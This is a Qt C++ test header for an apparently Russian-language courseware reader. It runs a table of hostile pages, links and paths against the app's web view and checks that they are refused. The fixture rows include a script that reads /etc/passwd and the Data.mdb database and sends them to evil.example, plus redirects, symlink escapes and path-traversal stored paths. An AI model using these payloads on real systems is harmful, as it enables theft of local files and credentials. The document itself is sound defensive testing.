#pragma once

// One table of hostile pages, links and paths, run with each page view: what the view shows,
// what reaches the desktop (the opener), and what the student is told.

#include "platform/Widgets.h"
#include "reader/Unit2.h"
#include "side/Unit10.h"
#include "signin/Unit1.h"
#include "tests/support/WindowFixture.h"

#include <QComboBox>
#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QUrl>

#include <functional>

namespace hostile {

// Everything handed to the desktop, whatever the scheme.
class OpenerCatcher : public QObject
{
    Q_OBJECT
public:
    OpenerCatcher()
    {
        for (const QString &scheme : schemes())
            QDesktopServices::setUrlHandler(scheme, this, "open");
    }
    ~OpenerCatcher() override
    {
        for (const QString &scheme : schemes())
            QDesktopServices::unsetUrlHandler(scheme);
    }

    QStringList urls;

public Q_SLOTS:
    void open(const QUrl &url) { urls.append(url.toString()); }

private:
    static QStringList schemes()
    {
        return {QStringLiteral("file"),       QStringLiteral("http"),       QStringLiteral("https"),
                QStringLiteral("mailto"),     QStringLiteral("smb"),        QStringLiteral("ftp"),
                QStringLiteral("data"),       QStringLiteral("javascript"), QStringLiteral("about"),
                QStringLiteral("view-source")};
    }
};

enum Flag
{
    // The light view shows no frames and follows no redirects: it has nothing to refuse.
    EngineNotice = 1,
    // The page shows a picture from inside Glaves (blue) and two from elsewhere (red).
    Pictures = 2,
};

inline const QString scriptMark = QStringLiteral("СКРИПТ");

inline void addRows()
{
    // How the case is reached: "open": the reader opens the contents page, crafted as "page";
    // "click": the student clicks the link filling that page; "login": the student signs in with
    // "page" as the stored path; "present": the topic's file in the presentations is "page".
    QTest::addColumn<QString>("action");
    QTest::addColumn<QString>("page");
    // Files made first, "path=content|...": a content "->x" makes a symbolic link to x, "#rrggbb"
    // a picture of that colour. {dir} is the program folder, {out} a folder elsewhere.
    QTest::addColumn<QString>("files");
    QTest::addColumn<QString>("shows");  // under the program folder; empty: nothing
    QTest::addColumn<QString>("opened"); // the address handed to the desktop, if any
    QTest::addColumn<QString>("notice"); // what the student is told, in part; empty: nothing
    QTest::addColumn<int>("flags");

    auto row = [](const char *name, const char *action, const QByteArray &page, const char *files, const char *shows,
                  const char *opened, const char *notice, int flags = 0) {
        QTest::newRow(name) << action << QString::fromUtf8(page) << files << shows << opened << notice << flags;
    };
    auto link = [](const char *href, const char *more = "") {
        return QByteArray("<a href=\"") + href + "\" " + more +
               " style=\"display: block; height: 100vh; font-size: 40px\">ССЫЛКА</a>";
    };
    const char *contents = "Glaves/Содержание.htm";
    const char *intro = "Glaves/Введение.htm";
    const char *unclicked = "без вашего щелчка";
    const char *refused = "Ссылка не открыта";
    const char *stored = "Запомненная страница не является страницей учебника";
    const char *outsidePresent = "указан вне папки Present";
    const char *evil = "{out}/evil.htm=<p>чужая</p>|Glaves/link.htm=->{out}/evil.htm";
    const QByteArray script = "<script>document.title = '" + scriptMark.toUtf8() + "';";

    row("script reads files, sends them out", "open",
        script + "fetch('file:///etc/passwd').then(r => r.text()).then(t => "
                 "{ location.href = 'https://evil.example/?' + encodeURIComponent(t); });"
                 "var x = new XMLHttpRequest(); x.open('GET', '../Data.mdb', false); x.send();"
                 "window.open('https://evil.example/?' + x.responseText);</script>",
        "", contents, "", "");
    row("script clicks and moves on", "open",
        "<a id=\"p\" href=\"file:///etc/passwd\">p</a><a id=\"d\" href=\"{out}/evil.desktop\">d</a>" + script +
            "document.getElementById('p').click(); document.getElementById('d').click();"
            "location.href = 'https://evil.example/';</script>",
        "{out}/evil.desktop=[Desktop Entry]", contents, "", "");
    row("frame of Data.mdb", "open", "<iframe src=\"../Data.mdb\"></iframe>", "", contents, "", unclicked,
        EngineNotice);
    row("redirect to a file elsewhere", "open", "<meta http-equiv=\"refresh\" content=\"0; url=file:///etc/passwd\">",
        "", contents, "", unclicked, EngineNotice);
    row("redirect to the web", "open", "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">", "",
        contents, "", unclicked, EngineNotice);
    row("pictures from elsewhere", "open",
        "<img src=\"blue.png\" width=\"60\" height=\"60\"><img src=\"{out}/red.png\" width=\"60\" height=\"60\">"
        "<img src=\"red-link.png\" width=\"60\" height=\"60\">",
        "{out}/red.png=#ff0000|Glaves/blue.png=#0000ff|Glaves/red-link.png=->{out}/red.png", contents, "", "",
        Pictures);

    row("link to a course page", "click", link("Glava2.htm"), "", "Glaves/Glava2.htm", "", "");
    row("link to a course page, new window", "click", link("Glava2.htm", "target=\"_blank\""), "", "Glaves/Glava2.htm",
        "", "");
    row("link out of Glaves", "click", link("../outside.htm"), "outside.htm=<p>вне</p>", contents, "", refused);
    row("link to a file elsewhere", "click", link("file:///etc/passwd"), "", contents, "", refused);
    row("link through a symbolic link", "click", link("link.htm"), evil, contents, "", refused);
    row("link to a desktop file in Glaves", "click", link("evil.desktop"), "Glaves/evil.desktop=[Desktop Entry]",
        contents, "", refused);
    row("link to another scheme", "click", link("smb://server/share/x.htm"), "", contents, "", refused);
    row("link to the web", "click", link("https://example.org/a?b=1"), "", contents, "https://example.org/a?b=1", "");
    row("link to the web, new window", "click", link("https://example.org/", "target=\"_blank\""), "", contents,
        "https://example.org/", "");
    row("link to a presentation", "click", link("../Present/a.pdf"), "Present/a.pdf=%PDF-1.4", contents,
        "file://{dir}Present/a.pdf", "");
    row("presentation linked to the passwords", "click", link("../Present/p.pdf"), "Present/p.pdf=->../Data.mdb",
        contents, "", refused);

    row("stored path elsewhere", "login", "/etc/passwd", "", intro, "", stored);
    row("stored path climbing out", "login", "Glaves\\..\\..\\{outname}\\out.htm", "{out}/out.htm=<p>вне</p>", intro,
        "", stored);
    row("stored page with a script elsewhere", "login", "{out}/evil.htm",
        QByteArray("{out}/evil.htm=" + script + "</script>").constData(), intro, "", stored);
    row("stored path through a symbolic link", "login", "{dir}Glaves\\link.htm", evil, intro, "", stored);

    row("presentation linked to /etc/passwd", "present", "p.pdf", "Present/p.pdf=->/etc/passwd", "", "",
        outsidePresent);
    row("presentation linked to Data.mdb", "present", "p.pdf", "Present/p.pdf=->../Data.mdb", "", "", outsidePresent);
}

inline QString canonical(const QUrl &url)
{
    return url.isEmpty() ? QString() : QFileInfo(url.toLocalFile()).canonicalFilePath();
}

// The test of one row. title: the title of the page the view shows; click: a click of the
// student at a point of the view's page.
inline void run(platform::WebView::Backend backend, const std::function<QString()> &title,
                const std::function<void(QPoint)> &click, const std::function<QImage()> &grab)
{
    QFETCH(QString, action);
    QFETCH(QString, page);
    QFETCH(QString, files);
    QFETCH(QString, shows);
    QFETCH(QString, opened);
    QFETCH(QString, notice);
    QFETCH(int, flags);
    const QString contents = QStringLiteral("Glaves/Содержание.htm");

    WindowFixture f(false);
    platform::WebView::setDefaultBackend(backend);
    QTemporaryDir out;
    const QString dir = f.folder.path();
    auto place = [&](QString text) {
        return text.replace(QStringLiteral("{dir}"), dir)
            .replace(QStringLiteral("{outname}"), QFileInfo(out.path()).fileName())
            .replace(QStringLiteral("{out}"), out.path());
    };
    for (const QString &made : files.split(u'|', Qt::SkipEmptyParts)) {
        const QString name = made.section(u'=', 0, 0);
        const QString path = name.startsWith(u'{') ? place(name) : dir + name;
        QDir().mkpath(QFileInfo(path).absolutePath());
        const QString content = place(made.section(u'=', 1));
        if (content.startsWith(QStringLiteral("->"))) {
            QVERIFY(QFile::link(content.mid(2), path));
        } else if (content.startsWith(u'#')) {
            QImage picture(60, 60, QImage::Format_RGB32);
            picture.fill(QColor(content));
            QVERIFY(picture.save(path, "PNG"));
        } else {
            QFile file(path);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(content.toUtf8());
        }
    }
    page = place(page);
    if (action == u"open" || action == u"click") {
        QFile crafted(dir + contents);
        QVERIFY(crafted.open(QIODevice::WriteOnly | QIODevice::Truncate));
        crafted.write(QStringLiteral("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Оглавление</title>"
                                     "</head><body style=\"margin: 0\">%1</body></html>")
                          .arg(page)
                          .toUtf8());
    }
    if (action == u"present") {
        f.folder.exec(
            QStringLiteral("DELETE FROM present;\nINSERT INTO present (tema, file) VALUES ('Тема', '%1')").arg(page));
    }

    f.windows = WindowSet::everyWindow();
    OpenerCatcher opener;
    platform::WebView *view = Form2->WebBrowser1;
    QSignalSpy loads(view, &platform::WebView::loadFinished);

    if (action == u"login") {
        f.addStudent(QStringLiteral("Иванов"));
        f.folder.exec(QStringLiteral("UPDATE Users SET \"путь\" = '%1'").arg(page));
        Form1->show();
        Form1->SpeedButton2->click();
        Form1->Edit1->setText(QStringLiteral("Иванов"));
        Form1->BitBtn2->click();
        QVERIFY(Form2->isVisible());
        QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty(), 30000);
    } else if (action == u"present") {
        Form10->fillAndShow();
        Form10->ComboBox1->setCurrentIndex(0);
    } else {
        f.addStudent(QStringLiteral("Иванов"));
        f.signInDirectly(QStringLiteral("Иванов"));
        QTest::mouseClick(Form2->Label3, Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty(), 30000);
        QCOMPARE(loads.takeFirst().at(0).toBool(), true);
        if (action == u"click") {
            QVERIFY(QTest::qWaitForWindowExposed(Form2));
            click(QPoint(30, 30));
            if (shows != contents)
                QTRY_VERIFY_WITH_TIMEOUT(!loads.isEmpty(), 30000);
        }
    }

    const bool toldHere =
        !notice.isEmpty() && (backend == platform::WebView::Backend::WebEngine || !(flags & EngineNotice));
    QString told;
    if (action == u"present") {
        told = f.boxes.texts().join(u'\n');
    } else {
        // What the engine refuses comes after the page's load.
        if (toldHere)
            QTRY_VERIFY_WITH_TIMEOUT(!view->notice().isEmpty(), 30000);
        if (!opened.isEmpty())
            QTRY_VERIFY_WITH_TIMEOUT(!opener.urls.isEmpty(), 30000);
        told = view->notice();
        QCOMPARE(f.boxes.texts(), QStringList());
    }
    if (toldHere)
        QVERIFY2(told.contains(notice), qPrintable(told));
    else
        QCOMPARE(told, QString());

    QCOMPARE(opener.urls, opened.isEmpty() ? QStringList() : QStringList{QUrl(place(opened)).toString()});
    QCOMPARE(canonical(view->shownUrl()), shows.isEmpty() ? QString() : QFileInfo(dir + shows).canonicalFilePath());
    QVERIFY(title() != scriptMark);

    if (flags & Pictures) {
        // The picture from Glaves shows; neither of the others, though one is linked into Glaves.
        QTRY_COMPARE_WITH_TIMEOUT(grab().pixelColor(30, 30), QColor(0, 0, 255), 30000);
        QVERIFY(grab().pixelColor(90, 30) != QColor(255, 0, 0));
        QVERIFY(grab().pixelColor(150, 30) != QColor(255, 0, 0));
    }
}

} // namespace hostile
